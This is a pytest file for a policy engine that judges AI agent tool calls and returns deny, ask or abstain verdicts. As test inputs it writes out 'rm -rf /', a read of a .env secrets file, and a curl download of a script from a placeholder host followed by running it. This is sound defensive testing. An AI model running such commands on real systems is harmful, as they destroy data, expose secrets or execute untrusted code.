"""Judging without a client: one answer per line, in order, whatever the line holds."""

from __future__ import annotations

import json

import pytest

from bailiwick.adapters.policy_files import default_policy
from bailiwick.apps.judging import Judge, Setting, input_of
from bailiwick.model.errors import InputError

TYPE_CHECKING = False
if TYPE_CHECKING:
    from pathlib import Path
    from typing import Any


@pytest.fixture
def judge(tmp_path: Path) -> Judge:
    project = tmp_path / "home" / "proj"
    project.mkdir(parents=True)
    (project / ".env").write_text("A=1")
    home = str(tmp_path.resolve() / "home")
    return Judge(default_policy(), Setting(home=home, project=f"{home}/proj", temps=("/tmp",)))


def ask(judge: Judge, line: object) -> dict[str, Any]:
    return judge.line(line if isinstance(line, bytes) else json.dumps(line).encode())


def bash(command: str, **more: object) -> dict[str, object]:
    return {"id": "1", "tool": "Bash", "input": {"command": command}, **more}


def test_an_answer_has_id_verdict_reason_and_rules(judge: Judge) -> None:
    answer = ask(judge, bash("rm -rf /"))
    assert answer["id"] == "1"
    assert answer["verdict"] == "deny"
    assert "instead:" in answer["reason"]
    assert answer["rules"][0]["rule"] == "baseline/files.delete-vital"
    assert ask(judge, bash("git status"))["verdict"] == "abstain"


@pytest.mark.parametrize(
    "line",
    [
        b"not json",
        b"[]",
        b"null",
        b'"text"',
        b"{}",
        b'{"id": "1"}',
        b'{"id": "1", "tool": "Bash"}',
        b'{"id": "1", "tool": "Bash", "input": 7}',
        b'{"id": "1", "tool": "Bash", "input": {}}',
        b'{"id": "1", "tool": "Bash", "input": {"command": 7}}',
        b'{"id": "1", "tool": 7, "input": {}}',
        b'{"id": "1", "tool": "Bash", "input": {"command": "ls"}, "cwd": 7}',
        b'{"id": "1", "id": "2", "tool": "Bash", "input": {"command": "ls"}}',
        b'{"id": "1", "tool": "Bash", "input": {"command": "ls\xff"}}',
        b'{"id": "1", "tool": "Bash", "input": {"command": "ls"}',
        b'{"hook_event_name": "PreToolUse"}',
        b'{"hook_event_name": "NoSuchEvent", "session_id": "s"}',
        b"[" * 100_000,
    ],
)
def test_a_line_that_cannot_be_read_is_denied_with_an_error(judge: Judge, line: bytes) -> None:
    answer = ask(judge, line)
    assert answer["verdict"] == "deny"
    assert answer["indeterminate"] is True
    assert answer["error"]


def test_a_missing_id_is_the_number_of_the_line(judge: Judge) -> None:
    ask(judge, bash("ls"))
    assert ask(judge, {"tool": "Bash", "input": {"command": "ls"}})["id"] == 2


def test_calls_of_one_session_follow_each_other(judge: Judge) -> None:
    read = {"id": "r", "tool": "Read", "input": {"file_path": ".env"}, "session": "s"}
    assert ask(judge, read)["verdict"] == "deny"
    assert ask(judge, bash("ls", session="s"))["verdict"] == "abstain"
    assert ask(judge, {**read, "executed": True})["verdict"] == "deny"
    assert ask(judge, bash("ls", session="s"))["verdict"] == "deny"
    assert ask(judge, bash("ls", session="other"))["verdict"] == "abstain"
    assert ask(judge, bash("ls"))["verdict"] == "abstain"


def test_a_call_that_was_not_executed_leaves_no_trace(judge: Judge) -> None:
    fetch = bash("curl -o t.sh https://x.example/t.sh", session="s", executed=False)
    assert ask(judge, fetch)["verdict"] == "ask"
    assert ask(judge, bash("sh t.sh", session="s"))["verdict"] == "abstain"


def test_native_events_are_judged_like_calls(judge: Judge) -> None:
    event = {
        "hook_event_name": "PreToolUse",
        "session_id": "n",
        "cwd": "/",
        "tool_name": "Bash",
        "tool_input": {"command": "kubectl apply -f x"},
        "tool_use_id": "toolu_1",
        "permission_mode": "default",
    }
    answer = ask(judge, event)
    assert (answer["id"], answer["verdict"]) == ("toolu_1", "ask")
    alone = ask(judge, {**event, "permission_mode": "bypassPermissions"})
    assert (alone["verdict"], alone["unanswerable"]) == ("deny", True)
    started = {"hook_event_name": "SessionStart", "session_id": "n", "cwd": "/", "source": "clear"}
    assert ask(judge, started)["verdict"] == "abstain"


def test_explaining_adds_operations_and_facts(judge: Judge) -> None:
    answer = judge.line(json.dumps(bash("cat README.md")).encode(), explain=True)
    assert any(operation["kind"] == "file.read" for operation in answer["operations"])
    assert answer["facts"]
    json.dumps(answer)


def test_one_text_means_the_main_field_of_its_tool() -> None:
    assert input_of("Bash", "ls") == {"command": "ls"}
    assert input_of("Bash", "{ ls; }") == {"command": "{ ls; }"}
    assert input_of("Read", "/x") == {"file_path": "/x"}
    assert input_of("Write", "/x") == {"file_path": "/x", "content": ""}
    assert input_of("mcp__a__b", '{"x": 1}') == {"x": 1}
    with pytest.raises(InputError):
        input_of("mcp__a__b", "text")
